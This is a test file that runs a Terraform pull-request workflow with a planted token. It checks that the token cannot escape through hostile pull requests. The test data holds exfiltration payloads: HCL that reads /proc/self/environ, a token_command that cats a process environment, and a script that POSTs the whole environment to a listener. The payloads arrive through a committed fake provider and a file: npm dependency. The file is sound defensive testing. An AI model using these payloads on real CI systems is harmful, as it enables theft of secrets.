/**
 * The HCL pull-request workflow (examples/github-actions-hcl/plan.yml), run step by step on this
 * machine (test/ci/workflow-runner.ts) against the simulator, with a token planted in the secrets
 * and hostile pull requests from issue 41: outputs that print the environment (also base64), a
 * provider `url` pointing at a listener of the test, a `token_command`, a committed 9.9.9 provider,
 * a `file:` dependency, a `templatefile` of the environment and a precondition whose `error_message`
 * is the environment. (apply.yml and drift.yml: hcl-workflow-merge.test.ts; the CLI's plan.yml:
 * test/ci/plan-workflow-run.test.ts.) In every case the token is in no comment body, no artifact and no request
 * to another host, and no code of the pull request runs in the job that holds it; a benign pull
 * request is planned, commented (the CLI's rendering) and its plan uploaded.
 * Needs terraform on PATH and the build (dist/).
 */
import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync, chmodSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { useSimulator } from "../support/simulator";
import { encodings, startListener, type Listener } from "../ci/planted-token";
import { filesUnder, loadWorkflow, runWorkflow, type RunResult } from "../ci/workflow-runner";
import { mainTf, userLine } from "./hcl-workflow-config";

const TOKEN = "planted-secret-7f3c91d2a8e44b0c";
const sim = useSimulator({ token: TOKEN });
const VERSION = "0.1.0";

let listener: Listener;
let dir: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "aru-hcl-run-"));
  listener = await startListener();
});

afterAll(async () => {
  await listener.close();
  rmSync(dir, { recursive: true, force: true });
});

/** A repository tree: package.json and its lock at the root, the configuration in alert-rules/. */
function tree(name: string, files: Record<string, string>, dependency = VERSION, resolved = `https://registry.npmjs.org/alert-rule-users/-/alert-rule-users-${VERSION}.tgz`): string {
  const root = join(dir, name);
  const all: Record<string, string> = {
    "package.json": JSON.stringify({ name: "lists", private: true, dependencies: { "alert-rule-users": dependency } }),
    "package-lock.json": JSON.stringify({ lockfileVersion: 3, packages: { "": {}, "node_modules/alert-rule-users": { version: VERSION, resolved } } }),
    ...files,
  };
  for (const [path, content] of Object.entries(all)) {
    mkdirSync(join(root, path, ".."), { recursive: true });
    writeFileSync(join(root, path), content);
  }
  // formatted as a pull request that passes `terraform fmt -check` is (the attacks are in what it says, not how)
  const fmt = spawnSync("terraform", ["fmt", "-recursive", root], { encoding: "utf8" });
  if (fmt.status !== 0) throw new Error(`terraform fmt: ${fmt.stderr}`);
  return root;
}

/** A script the hostile pull request wants run: it leaves a marker and sends its environment to the listener. */
function hostileScript(marker: string): string {
  return `#!/usr/bin/env bash\ntouch ${JSON.stringify(marker)}\nnode -e 'fetch(process.argv[1], { method: "POST", body: JSON.stringify(process.env) }).catch(() => {})' ${JSON.stringify(listener.url)}\nexit 1\n`;
}

async function run(head: string, base: string): Promise<RunResult> {
  const home = join(dir, "home");
  mkdirSync(home, { recursive: true });
  return runWorkflow(loadWorkflow("examples/github-actions-hcl/plan.yml", "alert-rules"), {
    head,
    base,
    vars: { ALERTS_API_URL: sim.url, ALERTS_TENANT_ID: sim.tenantId },
    secrets: { ALERTS_API_TOKEN: TOKEN },
    env: { PATH: process.env["PATH"], HOME: home, CHECKPOINT_DISABLE: "1", npm_config_cache: join(home, "npm-cache") },
  });
}

/** What the token must never reach: the comments, the artifacts, the listener. */
function expectNoTokenLeft(result: RunResult): void {
  const forms = encodings(TOKEN);
  for (const body of result.comments) for (const form of forms) expect(body.includes(form)).toBe(false);
  for (const [name, artifact] of Object.entries(result.artifacts)) {
    for (const file of filesUnder(artifact)) for (const form of forms) expect(`${name}: ${file.path}: ${file.content.toString("latin1").includes(form)}`).toBe(`${name}: ${file.path}: false`);
  }
  for (const request of listener.received) for (const form of forms) expect(`${request.url} ${request.headers} ${request.body}`.includes(form)).toBe(false);
}

const explain = (result: RunResult): string => result.steps.map((s) => `[${s.job}] ${s.step}: ${s.code}\n${s.output.slice(-3000)}`).join("\n");

describe("the HCL plan workflow, run step by step with a planted token", () => {
  let base: string;
  beforeAll(() => {
    base = tree("base", { "alert-rules/main.tf": mainTf() });
  });
  beforeEach(() => {
    listener.received.length = 0;
  });

  it("a pull request that adds a user: the declarations job (no secret) evaluates it offline, the plan job (base checkout) plans its declarations and comments the CLI's rendering", async () => {
    // given
    const head = tree("benign", { "alert-rules/main.tf": mainTf([userLine("9300", "zoe@example.com")]) });
    // when
    const result = await run(head, base);
    // then
    expect(`${JSON.stringify(result.jobs)}\n${explain(result)}`).toMatch(/^\{"declarations":"success","plan":"success"\}/);
    expect(result.checkouts).toEqual({ declarations: "head", plan: "base" });
    expect(result.comments).toHaveLength(1);
    expect(result.comments[0]).toContain("<!-- alert-rule-users-plan -->");
    expect(result.comments[0]).toContain("zoe@example.com");
    expect(Object.keys(result.artifacts).sort()).toEqual(["alert-rule-users-declarations", "alert-rule-users-terraform-plan"]);
    expect(sim.requestLog().length).toBeGreaterThan(0);
    expectNoTokenLeft(result);
  });

  it("outputs of file(\"/proc/self/environ\") and its base64encode: planned without them, the token in no comment and no artifact", async () => {
    const outputs = 'output "x" {\n  value = file("/proc/self/environ")\n}\n\noutput "y" {\n  value = base64encode(file("/proc/self/environ"))\n}\n';
    const head = tree("outputs", { "alert-rules/main.tf": mainTf([userLine("9301", "yan@example.com")], { extra: outputs }) });
    const result = await run(head, base);
    expect(`${JSON.stringify(result.jobs)}\n${explain(result)}`).toMatch(/^\{"declarations":"success","plan":"success"\}/);
    expect(result.comments[0]).toContain("yan@example.com");
    expect(result.comments[0]).not.toMatch(/PATH=|HOME=|CHECKPOINT_DISABLE/);
    expectNoTokenLeft(result);
  });

  it.each([
    ["a templatefile of /proc/self/environ", 'output "z" {\n  value = templatefile("/proc/self/environ", {})\n}', /templatefile/],
    [
      "a precondition whose error_message is /proc/self/environ",
      'output "w" {\n  value = "ok"\n  precondition {\n    condition     = length(alertrules_rule_user_list.engineering.rule_id) < 0\n    error_message = file("/proc/self/environ")\n  }\n}',
      /precondition failed[^]*ALERT_RULE_USERS_PROVIDER_OFFLINE=1/,
    ],
  ])("%s: evaluated only in the declarations job (no secret), which fails; the plan job never runs, the token in no comment and no artifact", async (_what, hostile, shown) => {
    const head = tree(`hostile-${hostile.length}`, { "alert-rules/main.tf": mainTf([userLine("9302", "xia@example.com")], { extra: hostile }) });
    const result = await run(head, base);
    expect(`${JSON.stringify(result.jobs)}\n${explain(result)}`).toMatch(/^\{"declarations":"failure","plan":"skipped"\}/);
    // what the configuration shows, it shows in the log of a job that holds no secret
    const evaluated = result.steps.find((s) => s.step.startsWith("Evaluate"))!;
    expect(evaluated.output).toMatch(shown);
    expect(evaluated.output).not.toContain(TOKEN);
    expect(result.comments).toEqual([]);
    expectNoTokenLeft(result);
  });

  it("a provider url pointing elsewhere, and a token_command: refused by the locked provider (no request there, no command run); the plan job never runs", async () => {
    const marker = join(dir, "token-command-ran");
    const head = tree("url", { "alert-rules/main.tf": mainTf([], { provider: `\n  url           = ${JSON.stringify(listener.url)}\n  token_command = ${JSON.stringify(`touch ${marker}; cat /proc/$PPID/environ`)}\n` }) });
    const result = await run(head, base);
    expect(result.jobs).toEqual({ declarations: "failure", plan: "skipped" });
    const evaluated = result.steps.find((s) => s.step.startsWith("Evaluate"))!;
    expect(evaluated.output).toContain("url is not allowed in a locked provider");
    expect(evaluated.output).toContain("token_command is not allowed in a locked provider");
    expect(existsSync(marker)).toBe(false);
    expect(listener.received).toEqual([]);
    expect(result.comments).toEqual([]);
    expectNoTokenLeft(result);
  });

  it("a committed terraform.d/plugins/…/9.9.9 provider: deleted before init, which then finds no 9.9.9; the committed provider never runs", async () => {
    const marker = join(dir, "committed-provider-ran");
    const plugin = "alert-rules/terraform.d/plugins/registry.terraform.io/alert-rule-users/alertrules/9.9.9/linux_amd64/terraform-provider-alertrules_v9.9.9";
    const head = tree("committed-provider", { "alert-rules/main.tf": mainTf([], { version: "9.9.9" }), [plugin]: hostileScript(marker) });
    chmodSync(join(head, plugin), 0o755);
    const result = await run(head, base);
    expect(result.jobs).toEqual({ declarations: "failure", plan: "skipped" });
    expect(existsSync(marker)).toBe(false);
    expect(listener.received).toEqual([]);
    expectNoTokenLeft(result);
  });

  it("a file: dependency in package.json and its lock: refused before anything is installed; its code never runs", async () => {
    const marker = join(dir, "file-dependency-ran");
    const head = tree(
      "file-dependency",
      {
        "alert-rules/main.tf": mainTf(),
        "evilpkg/package.json": JSON.stringify({ name: "alert-rule-users", version: "9.9.9", bin: { "alert-rule-users": "cli.sh" } }),
        "evilpkg/cli.sh": hostileScript(marker),
      },
      "file:evilpkg",
      "file:evilpkg",
    );
    chmodSync(join(head, "evilpkg", "cli.sh"), 0o755);
    const result = await run(head, base);
    expect(result.jobs).toEqual({ declarations: "failure", plan: "skipped" });
    const check = result.steps.find((s) => s.step === "Check the alert-rule-users dependency")!;
    expect(check.output).toContain('package.json must depend on alert-rule-users at a registry version (e.g. "0.1.0"), not "file:evilpkg". Nothing was installed.');
    expect(existsSync(marker)).toBe(false);
    expect(listener.received).toEqual([]);
    expectNoTokenLeft(result);
  });
});
